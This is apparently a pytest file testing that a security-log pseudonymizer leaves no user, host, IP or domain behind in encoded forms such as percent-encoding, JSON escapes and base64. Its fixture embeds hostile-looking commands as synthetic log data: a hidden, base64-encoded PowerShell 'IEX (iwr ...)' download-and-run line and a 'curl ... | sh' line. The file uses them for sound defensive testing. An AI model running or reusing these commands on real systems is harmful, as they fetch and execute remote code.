"""No original entity survives pseudonymization in an encoded form: percent-encoding (a URL in a query
string), JSON and backslash escapes (raw event JSON in event.original), Windows profile paths, and
base64 payloads whose decoded text names it (PowerShell -enc)."""

from __future__ import annotations

import base64
import json
import re
import urllib.parse
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pytest_soclab.corpus.generate import generate
from pytest_soclab.corpus.recipe import load_case
from pytest_soclab.pseudonymize import Pseudonymizer
from pytest_soclab.pseudonymize.encodings import decoded_segments

KEY = b"an example key of at least sixteen bytes, for the encoding tests"
CORPUS = Path(__file__).resolve().parents[2] / "corpus"
_B64 = re.compile(r"[A-Za-z0-9+/]{20,}={0,2}")


def views(text: str) -> list[str]:
    """The text and every decoded form of it: percent-decoded, JSON-unescaped, base64 text, recursively."""
    out = [text, urllib.parse.unquote(text), text.replace("\\\\", "\\")]
    try:
        out.append(json.loads(f'"{text}"'))
    except ValueError:
        pass
    for d in decoded_segments(text):
        out += views(d.text)
    for m in _B64.finditer(text):
        tok = m.group(0)[: len(m.group(0)) // 4 * 4]
        try:
            raw = base64.b64decode(tok)
        except ValueError:
            continue
        for codec in ("utf-16-le", "utf-8"):
            try:
                out.append(raw.decode(codec))
            except UnicodeDecodeError:
                pass
    return out


def leaks(entities: list[str], docs: list[dict[str, Any]]) -> list[str]:
    text = "\n".join(json.dumps(d) for d in docs)
    seen = "\n".join(views(text)).lower()
    found = []
    for e in entities:
        if re.search(rf"(?<![a-z0-9]){re.escape(e.lower())}(?![a-z0-9])", seen):
            found.append(e)
    return found


def encoded_doc(user: str, host: str, ip: str, domain: str) -> dict[str, Any]:
    payload = f"IEX (iwr http://{ip}/a -OutFile C:\\Users\\{user}\\a.exe); net user {user} /domain"
    raw_event = {"Message": f"An account was logged on.\r\n\tAccount Name:\t\t{user}\r\n\tWorkstation:\t{host.upper()}"}
    return {
        "host": {"name": host}, "user": {"name": user}, "source": {"ip": ip},
        "url": {"query": "next=" + urllib.parse.quote(f"http://{ip}/x?u={user}@{domain}", safe=""),
                "original": f"/login?redirect=https%3A%2F%2F{domain}%2Fhome%3Fh%3D{host}"},
        "event": {"original": json.dumps(raw_event)},
        "process": {"command_line": "powershell.exe -nop -w hidden -enc "
                                    + base64.b64encode(payload.encode("utf-16-le")).decode(),
                    "executable": f"C:\\Users\\{user}\\AppData\\Local\\Temp\\upd.exe"},
        "file": {"path": f"C:\\\\Users\\\\{user}\\\\Desktop\\\\notes.txt"},
        "message": json.dumps({"user": user, "ip": ip}) + f" \\u0022{user}\\u0022 sh -c 'echo "
                   + base64.b64encode(f"curl http://{ip}/p | sh # {host}".encode()).decode() + " | base64 -d'",
    }


_WORD = st.text("bcdfghjklmnpqrstvwxz", min_size=5, max_size=9)  # no vowels: never an English word
_OCTET = st.integers(1, 254)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(user=_WORD, host=_WORD, n=st.integers(1, 99), a=st.sampled_from([45, 77, 91, 185, 203]),
       b=_OCTET, c=_OCTET, d=_OCTET, dom=_WORD)
def test_no_entity_survives_in_any_encoding(user: str, host: str, n: int, a: int, b: int, c: int, d: int,
                                            dom: str) -> None:
    user, dom = "qx" + user, "zq" + dom
    host = f"ws-{host}{n:02d}"
    ip = f"{a}.{b}.{c}.{d}"
    domain = f"{dom}-corp.com"
    doc = encoded_doc(user, host, ip, domain)
    p = Pseudonymizer(KEY)
    p.learn_documents([doc])
    out = p.document(doc)
    assert leaks([user, host, ip, domain], [out]) == []
    # The encodings survive: base64 still decodes to text, the query still percent-decodes to a URL.
    q = urllib.parse.unquote(out["url"]["query"])
    assert q.startswith("next=http://") and "/x?u=" in q
    enc = out["process"]["command_line"].rsplit(" ", 1)[1]
    assert base64.b64decode(enc).decode("utf-16-le").startswith("IEX (iwr http://")


def test_the_same_entity_gets_the_same_pseudonym_in_every_encoding() -> None:
    doc = encoded_doc("qzxwvk", "ws-brtmk07", "203.0.113.77", "trmvk-corp.com")
    p = Pseudonymizer(KEY)
    p.learn_documents([doc])
    out = p.document(doc)
    new_ip = out["source"]["ip"]
    new_user = out["user"]["name"]
    assert new_ip != "203.0.113.77"
    assert f"http://{new_ip}/x?u={new_user}@" in urllib.parse.unquote(out["url"]["query"])
    payload = base64.b64decode(out["process"]["command_line"].rsplit(" ", 1)[1]).decode("utf-16-le")
    assert f"http://{new_ip}/a" in payload and f"C:\\Users\\{new_user}\\a.exe" in payload
    assert f"\\t\\t{new_user}\\r\\n" in out["event"]["original"]


def test_binary_base64_and_hashes_are_left_alone() -> None:
    p = Pseudonymizer(KEY)
    blob = base64.b64encode(bytes(range(256))).decode()
    sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    assert p.text(f"cert {blob} sha256 {sha}") == f"cert {blob} sha256 {sha}"


def test_generated_case_with_encoded_copies_of_its_entities_leaks_nothing() -> None:
    docs = [doc for _s, _i, doc in generate(load_case(CORPUS / "case-02-web-implant"), scale=0.05)]
    users = sorted({d["user"]["name"] for d in docs if isinstance(d.get("user"), dict)
                    and isinstance(d["user"].get("name"), str) and len(d["user"]["name"]) >= 4})[:6]
    hosts = sorted({d["host"]["name"] for d in docs if isinstance(d.get("host"), dict)
                    and isinstance(d["host"].get("name"), str)})[:6]
    ips = sorted({d["source"]["ip"] for d in docs if isinstance(d.get("source"), dict)
                  and isinstance(d["source"].get("ip"), str) and not d["source"]["ip"].startswith(("10.", "127."))})[:6]
    extra = [encoded_doc(u, h, i, "shop-corp.com") for u, h, i in zip(users, hosts, ips)]
    assert extra
    p = Pseudonymizer(KEY)
    p.learn_documents(docs + extra)
    out = [p.document(d) for d in extra]
    # Entities the pseudonymizer keeps on purpose (system accounts such as _apt) are not leaks.
    replaced = [u for u in users if p.user(u) != u] + [h for h in hosts if p.host(h) != h] + \
        [i for i in ips if p.ip(i) != i]
    assert len(replaced) >= 6
    assert leaks(replaced, out) == []
